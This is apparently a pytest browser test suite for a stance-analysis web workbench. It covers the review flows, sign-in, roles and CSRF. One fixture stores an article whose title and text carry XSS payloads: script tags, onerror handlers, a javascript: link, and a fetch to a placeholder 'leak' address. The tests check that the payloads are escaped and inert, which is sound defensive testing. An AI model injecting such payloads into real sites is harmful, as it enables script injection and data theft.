"""The workbench in a real headless Chromium (Debian's), against a server on 127.0.0.1.

The flows of issue 10: an analyst drills from the overview into USA vs ISR, opens a quote,
corrects the claim with the keyboard and sees the matrix cell change; sign-in, roles and CSRF;
hostile article text and titles shown without anything running or any request leaving.
"""

from __future__ import annotations

import datetime as dt
import getpass
import os
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from typer.testing import CliRunner

from stancemap.cli import app as cli
from stancemap.store import Store
from web_server import running

pytestmark = [pytest.mark.browser]

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed (the CI script installs Debian's chromium)")
        pytest.skip("chromium is not installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> str:
    db = f"sqlite:///{tmp_path_factory.mktemp('web') / 'demo.db'}"
    assert CliRunner().invoke(cli, ["demo", "--db", db]).exit_code == 0
    return db


def _cell(page, actor: str, issue: str) -> str:
    return page.inner_text(f'td[data-actor="{actor}"][data-issue="{issue}"] .net')


@pytest.mark.model
def test_drill_into_usa_isr_correct_a_claim_with_the_keyboard(browser, demo_db, tmp_path):
    from stancemap.web import create_app

    store = Store.open(demo_db)
    with running(create_app(store, single_user=True)) as base:
        page = browser.new_page()
        page.goto(base + "/")
        assert page.locator("table.matrix td[data-actor]").count() > 0
        page.screenshot(path=str(tmp_path / "overview.png"), full_page=True)
        # drill into USA vs ISR
        page.select_option("form.pair-pick select[name=a]", "USA")
        page.select_option("form.pair-pick select[name=b]", "ISR")
        page.click("form.pair-pick button")
        page.wait_for_url("**/pair?*")
        assert "USA and ISR" in page.inner_text("h1")
        page.wait_for_selector("#timeline img.chart")  # loaded by HTMX after the comparison
        assert page.locator("img.chart").evaluate("img => img.complete && img.naturalWidth > 100")
        # open a quote: the claim view shows the article with the evidence highlighted
        first = page.locator("a.quote").first
        quote = first.inner_text().strip("“”")
        first.click()
        page.wait_for_url("**/claims/*")
        claim_id = int(urlsplit(page.url).path.rsplit("/", 1)[1])
        assert page.inner_text("mark#evidence") == quote
        c = store.claims(include_rejected=True, mapped_only=False)
        claim = next(x for x in c if x["id"] == claim_id)
        page.goto(base + "/")
        before = _cell(page, claim["actor"], claim["issue"])
        # correct it with the keyboard: "s" flips the stance
        page.goto(f"{base}/claims/{claim_id}")
        page.keyboard.press("s")
        page.wait_for_selector("#status:text('edited')")
        history = store.review_history(claim_id)
        assert [h["status"] for h in history] == ["edited"]
        assert history[0]["reviewer"] == getpass.getuser() and history[0]["prev_stance"] == claim["stance"]
        assert history[0]["stance"] != claim["stance"]
        # the matrix cell changes, to what the library computes from the store
        page.goto(base + "/")
        after = _cell(page, claim["actor"], claim["issue"])
        assert after != before
        from stancemap.report.workbench import overview_from_store

        assert after == f"{overview_from_store(store).net.at[claim['actor'], claim['issue']]:+.2f}"
        page.close()


def _shown(page, claim_id: int) -> None:
    """Wait until the queue shows this claim and htmx has finished wiring the new content (a key
    pressed while it settles would reach a form htmx has not taken over yet)."""
    page.wait_for_selector(f"#queue-item h2:text-matches('^Claim {claim_id}:')")
    page.locator(".htmx-added, .htmx-settling, .htmx-swapping, .htmx-request").first.wait_for(state="detached")


@pytest.mark.model
def test_review_queue_walks_by_keyboard(browser, demo_db):
    from stancemap.store import workbench as wb
    from stancemap.web import create_app

    store = Store.open(demo_db)
    f = wb.ClaimFilter(codebook=store.latest_codebook())
    first, second = wb.queue_page(store, f, limit=2)
    assert first["confidence"] <= second["confidence"]
    with running(create_app(store)) as base:
        page = browser.new_page()
        page.goto(base + "/review")
        assert page.inner_text("#queue-item h2").startswith(f"Claim {first['id']}:")
        page.keyboard.press("j")  # next
        _shown(page, second["id"])
        page.keyboard.press("k")  # previous
        _shown(page, first["id"])
        page.keyboard.press("a")  # accept: the next claim comes up
        _shown(page, second["id"])
        assert wb.claim(store, first["id"])["status"] == "accepted"
        # correct the actor, issue and stance from the keyboard: e, type, Enter
        page.keyboard.press("e")
        page.wait_for_selector("[data-focus-key='e']:focus")  # (the page's CSP allows no evaluated script)
        page.keyboard.press("Control+a")
        page.keyboard.type("EGY")
        page.keyboard.press("Enter")
        page.wait_for_selector(f"p.done:text('Claim {second['id']}: edited')")
        assert wb.claim(store, second["id"])["actor"] == "EGY"
        page.close()


HOSTILE_TITLE = '<script>window.__pwned="title"</script><img src="/x-title" onerror="window.__pwned=\'img\'">'
HOSTILE_TEXT = ('Before. <script>window.__pwned="text";fetch("http://203.0.113.9/leak")</script> '
                'The United States said it supports a ceasefire <img src=x onerror="window.__pwned=1"> '
                '<a href="javascript:window.__pwned=2">click</a> now. After.')


def _hostile_store(url: str) -> tuple[Store, int]:
    """A store with one hostile article and a claim quoting its hostile part (written by hand: no model)."""
    from stancemap.knowledge.codebook import builtin_codebook
    from stancemap.model import Article, Claim
    from conftest import records

    store = Store.open(url)
    book = builtin_codebook()
    fp = store.save_codebook(book)
    art = Article(id="evil-1", date=dt.date(2024, 1, 5), source="<b>Evil</b> Times", title=HOSTILE_TITLE,
                  url="javascript:alert(1)", text=HOSTILE_TEXT)
    store.add_articles(records([art]))
    start = HOSTILE_TEXT.index("The United")
    end = HOSTILE_TEXT.index(" now.")
    issue = book.issues[0].id
    claim = Claim(article_id=art.id, date=art.date, actor="USA", issue=issue, stance="support",
                  evidence=HOSTILE_TEXT[start:end], start=start, end=end, speaker="<i>x</i>",
                  object='ceasefire <img src=x onerror="window.__pwned=1">', confidence=0.4)
    store.save_extractions(fp, "test", [(art, [claim])])
    return store, store.claims()[0]["id"]


def test_hostile_article_runs_nothing_and_sends_nothing(browser, tmp_path):
    from stancemap.web import create_app

    store, cid = _hostile_store(f"sqlite:///{tmp_path / 'evil.db'}")
    issue = store.claims()[0]["issue"]
    with running(create_app(store)) as base:
        page = browser.new_page()
        requests, dialogs, violations = [], [], []
        page.on("request", lambda r: requests.append(r.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        pages = ["/", f"/cell?actor=USA&issue={issue}", "/pair?a=USA&b=ISR", "/pair/timeline?a=USA&b=ISR", f"/claims/{cid}", "/articles/evil-1", "/search?q=ceasefire",
                 "/search?q=script", "/review", "/codebook"]
        for path in pages:
            resp = page.goto(base + path)
            assert resp.status == 200, path
            assert "script-src 'self'" in resp.headers["content-security-policy"]
            assert page.evaluate("window.__pwned") is None, path
            # the markup is shown as text, not made into elements
            bad = page.evaluate("""() => [document.querySelectorAll('script:not([src])').length,
                document.querySelectorAll('img[onerror], [onerror]').length,
                document.querySelectorAll('a[href^="javascript:"]').length]""")
            assert bad == [0, 0, 0], path
        page.goto(f"{base}/claims/{cid}")
        assert "<script>" in page.inner_text("article.text h2")  # the title, escaped
        assert "onerror" in page.inner_text("mark#evidence")
        page.goto(base + "/search?q=script")
        assert "<script>" in page.inner_text("#hits")
        page.close()
    assert dialogs == []
    assert violations == []  # the pages themselves need nothing the policy forbids (no inline style or script)
    assert [u for u in requests if urlsplit(u).netloc != urlsplit(base).netloc] == []
    assert not any("x-title" in u or u.endswith("/x") or "leak" in u for u in requests)


def test_sign_in_roles_and_csrf(browser, tmp_path):
    from stancemap.store import users
    from stancemap.web import create_app

    store, cid = _hostile_store(f"sqlite:///{tmp_path / 'team.db'}")
    users.add_user(store, "vera", "viewer", "viewer-pass-1")
    users.add_user(store, "carl", "coder", "coder-pass-1")
    with running(create_app(store, single_user=False)) as base:
        ctx = browser.new_context()
        page = ctx.new_page()
        page.goto(base + "/review")
        assert urlsplit(page.url).path == "/login"  # signed out: sent to sign in
        page.fill("input[name=name]", "vera")
        page.fill("input[name=password]", "wrong password")
        page.click("form.login button")
        assert "wrong name or password" in page.inner_text("p.error")
        page.fill("input[name=name]", "vera")
        page.fill("input[name=password]", "viewer-pass-1")
        page.click("form.login button")
        page.wait_for_url("**/review")
        assert "vera" in page.inner_text("header .who")
        # a viewer reads but cannot decide: no buttons, and the request itself is refused
        page.goto(f"{base}/claims/{cid}")
        assert page.locator("[data-key=a]").count() == 0
        token = page.evaluate("JSON.parse(document.body.getAttribute('hx-headers'))['X-CSRF-Token']")
        r = page.request.post(f"{base}/claims/{cid}/decide", form={"action": "reject", "csrf_token": token})
        assert r.status == 403 and "coder" in r.text()
        assert store.review_history(cid) == []
        ctx.close()

        ctx = browser.new_context()
        page = ctx.new_page()
        page.goto(base + "/login")
        page.fill("input[name=name]", "carl")
        page.fill("input[name=password]", "coder-pass-1")
        page.click("form.login button")
        page.wait_for_url(base + "/")
        # without the CSRF token, or with a wrong one, a state-changing request is refused
        for form in ({"action": "reject"}, {"action": "reject", "csrf_token": "forged"}):
            r = page.request.post(f"{base}/claims/{cid}/decide", form=form)
            assert r.status == 403 and "CSRF" in r.text()
        assert store.review_history(cid) == []
        # the page's own button carries it: the coder's decision is stored with their name
        page.goto(f"{base}/claims/{cid}")
        page.keyboard.press("r")
        page.wait_for_selector("#status:text('rejected')")
        assert [(h["status"], h["reviewer"]) for h in store.review_history(cid)] == [("rejected", "carl")]
        ctx.close()


@pytest.mark.model
def test_stancemap_serve_shows_the_founding_example(demo_db):
    """`stancemap serve` as a user runs it (its own process), then the comparison over HTTP."""
    import subprocess
    import sys
    import time

    import httpx

    from web_server import free_port

    port = free_port()
    proc = subprocess.Popen([str(Path(sys.executable).with_name("stancemap")), "serve", "--db", demo_db, "--port", str(port)],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        for _ in range(300):
            try:
                r = httpx.get(f"http://127.0.0.1:{port}/pair?a=USA&b=ISR", timeout=5)
                break
            except httpx.TransportError:
                assert proc.poll() is None, proc.stdout.read().decode()
                time.sleep(0.1)
        assert r.status_code == 200
        assert "USA and ISR: where they stand" in r.text and "Destroying Hamas" in r.text
        assert "Divergence index" in r.text
    finally:
        proc.terminate()
        proc.wait(timeout=10)
